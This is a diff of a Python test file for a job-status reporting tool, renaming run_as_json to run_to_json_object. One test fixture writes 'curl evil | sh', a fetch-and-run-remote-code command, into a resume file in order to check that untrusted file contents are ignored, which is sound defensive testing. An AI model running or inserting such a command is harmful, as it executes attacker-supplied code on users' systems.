@@ -32,7 +32,7 @@ BACKENDS = RUNTIME.parent / "backends"
 
 
 def lines(engine: Engine, run: Run) -> list[str]:
-    return status._format_report(status.run_as_json(engine, run), "logs in")
+    return status._format_report(status.run_to_json_object(engine, run), "logs in")
 
 
 def test_a_live_node_is_up_with_its_last_step(tmp_path: Path) -> None:
@@ -124,7 +124,7 @@ def test_a_node_without_an_exit_code_is_a_crash(tmp_path: Path) -> None:
 def test_a_run_that_ended_early_goes_on_with_the_submit_script_of_the_artifact(tmp_path: Path) -> None:
     run = make_run(tmp_path, state__node_00=node(ended=5, exit=75), state__resume="command=curl evil | sh\n")
     job = make_job(tmp_path)
-    assert status.run_as_json(Engine(job), run)["resume"] == f"{job.artifact}/jobctl submit --resume r"
+    assert status.run_to_json_object(Engine(job), run)["resume"] == f"{job.artifact}/jobctl submit --resume r"
 
 
 # ---- values of files that somebody else may have written
@@ -240,6 +240,6 @@ def test_the_programs_run_with_python_3_8(tmp_path: Path) -> None:
 def test_the_format_for_programs_is_documented(tmp_path: Path) -> None:
     page = (RUNTIME.parent / "docs/reference/status.md").read_text()
     run = make_run(tmp_path, state__node_00=node())
-    report = status.run_as_json(Engine(make_job(tmp_path)), run)
+    report = status.run_to_json_object(Engine(make_job(tmp_path)), run)
     keys = {*report, *report["nodes"][0], "schema", "runs", "points", "point"}
     assert not [key for key in keys if f"`{key}`" not in page]
